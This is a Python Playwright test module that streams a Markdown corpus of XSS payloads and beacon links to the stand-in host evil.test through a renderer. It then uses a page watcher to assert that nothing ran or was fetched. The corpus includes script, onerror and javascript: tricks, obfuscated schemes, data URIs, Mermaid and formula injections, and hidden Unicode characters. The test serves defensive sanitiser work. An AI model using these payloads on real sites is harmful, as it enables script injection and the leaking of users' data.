"""What a hostile model, member or page may write, and a watcher for whatever comes of it in a page.

The corpus is one Markdown text, so that it is met at every length while it streams. Each line
raises `window.__xss` if it runs, or calls on evil.test if it loads.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Page, Request

RUN = "window.__xss=1"
PAGE = base64.b64encode(f"<script>parent.{RUN}</script>".encode()).decode()
DRAWING = base64.b64encode(f'<svg xmlns="x" onload="{RUN}"/>'.encode()).decode()

# Raw HTML, as a title, a name or a line of prose can hold it.
MARKUP = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f"<iframe src=\"javascript:parent.{RUN}\" srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<details open ontoggle="{RUN}"><summary>open</summary></details>',
    f'<a href="javascript:{RUN}">a raw link</a>',
    f'<input autofocus onfocus="{RUN}">',
    f'<math><mtext><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></mtext></math>',
    '<img src="https://evil.test/seen.png?secret=1">',
    "<style>@import url(https://evil.test/a.css); * { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.test/b.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<base href="https://evil.test/">',
    '<form action="https://evil.test/"><button>Sign in again</button></form>',
    '<object data="https://evil.test/o.swf"></object><embed src="https://evil.test/e.swf">',
    '<video autoplay src="https://evil.test/v.mp4"></video>',
)
# What Markdown makes of its own accord.
MARKDOWN = (
    f"[a link](javascript:{RUN})",
    f"[a link](JaVaScRiPt:{RUN})",
    f"[a link](javascript&colon;{RUN})",
    f"[a link](&#106;avascript:{RUN})",
    f"[a link](<java\tscript:{RUN}>)",
    f"[a link](\u0001javascript:{RUN})",
    "[a link](vbscript:msgbox(1))",
    "[a link](file:///etc/passwd)",
    f"[a link](data:text/html;base64,{PAGE})",
    f"[a link][named] and <javascript:{RUN}>",
    f"[named]: javascript:{RUN}",
    f"![a picture](javascript:{RUN})",
    f"![a picture](data:image/svg+xml;base64,{DRAWING})",
    "![a picture](https://evil.test/beacon.png?secret=1)",
    "![a picture](//evil.test/beacon.png)",
    f'![a picture](https://evil.test/x.png "\\" onerror={RUN})',
    "[![both](https://evil.test/c.png)](https://evil.test/d)",
    f"A formula $\\href{{javascript:{RUN}}}{{x}}$ and $\\includegraphics{{https://evil.test/f.png}}$",
    f"and $\\htmlData{{x=y}}{{x}} \\url{{javascript:{RUN}}}$ in one line.",
    f"A note[^1]\n\n[^1]: <img src=x onerror={RUN}> [back](javascript:{RUN})",
    f"| a <img src=x onerror={RUN}> | [b](javascript:{RUN}) |\n| --- | --- |\n| c | d |",
    f"- [x] <script>{RUN}</script>",
    f"```html\n<script>{RUN}</script>\n<img src=x onerror={RUN}>\n```",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
)
DIAGRAM = (
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\ngraph TD\n"
    f'  A["<img src=x onerror={RUN}><img src=https://evil.test/m.png>"] --> B["b"]\n'
    f'  click A href "javascript:{RUN}"\n  click B call alert(1)\n```'
)
CORPUS = "\n\n".join((*MARKUP, *MARKDOWN, DIAGRAM, "The very end."))

# Turns the reading direction, parts words unseen, and hides a text from people alone.
UNSEEN = {
    "a turned direction": ("\u202e", "U+202E"),
    "an isolate": ("\u2067", "U+2067"),
    "a space without width": ("\u200b", "U+200B"),
    "a tag character": ("\U000e0041", "U+E0041"),
}

# Sees every element that ever comes into the page, also those that are gone a frame later.
WATCH = """
window.__found = [];
const own = (address) => new URL(address, location.href).origin === location.origin;
const LEADS = ["http:", "https:", "mailto:", "about:"];
const leads = (address) => LEADS.includes(new URL(address, location.href).protocol);
function judge(element) {
  const name = element.localName;
  const source = element.getAttribute("src");
  const href = element.getAttribute("href");
  const bad =
    ["object", "embed", "base", "video", "animate"].includes(name) ||
    (name === "script" && !(source && own(source))) ||
    (name === "iframe" && !(source && own(source))) ||
    (name === "form" && element.hasAttribute("action")) ||
    (name === "style" && element.textContent.includes("evil.test")) ||
    (name === "img" && source && !/^(blob:|data:)/.test(source) && !own(source)) ||
    (name === "link" && !own(href)) ||
    (name === "meta" && element.getAttribute("http-equiv") === "refresh") ||
    (name === "a" && href !== null && !leads(href)) ||
    element.getAttributeNames().some((attribute) => attribute.startsWith("on"));
  if (bad) window.__found.push(element.outerHTML.slice(0, 200));
}
new MutationObserver((records) => {
  for (const { type, target, addedNodes } of records) {
    if (type === "attributes") judge(target);
    for (const node of addedNodes) {
      if (node.nodeType !== Node.ELEMENT_NODE) continue;
      judge(node);
      node.querySelectorAll("*").forEach(judge);
    }
  }
}).observe(document, {
  childList: true, subtree: true, attributes: true, attributeFilter: ["src", "href", "action"],
});
document.addEventListener("securitypolicyviolation", (event) => {
  window.__found.push(`${event.violatedDirective} ${event.blockedURI}`);
});
"""


@dataclass
class Watch:
    """Looks over one page from before its first script on."""

    page: Page
    strangers: list[str] = field(default_factory=list[str])

    def __post_init__(self) -> None:
        self.page.add_init_script(WATCH)
        self.page.context.on("request", self._note)

    def _note(self, request: Request) -> None:
        host = urlsplit(request.url).hostname
        if host not in ("localhost", "127.0.0.1", None):
            self.strangers.append(request.url)

    def expect_nothing(self) -> None:
        """Nothing ran or was fetched from elsewhere, and nothing that could stood in the page."""
        found: Any = self.page.evaluate("({ ran: window.__xss ?? null, found: window.__found })")
        assert found == {"ran": None, "found": []}
        assert self.strangers == []
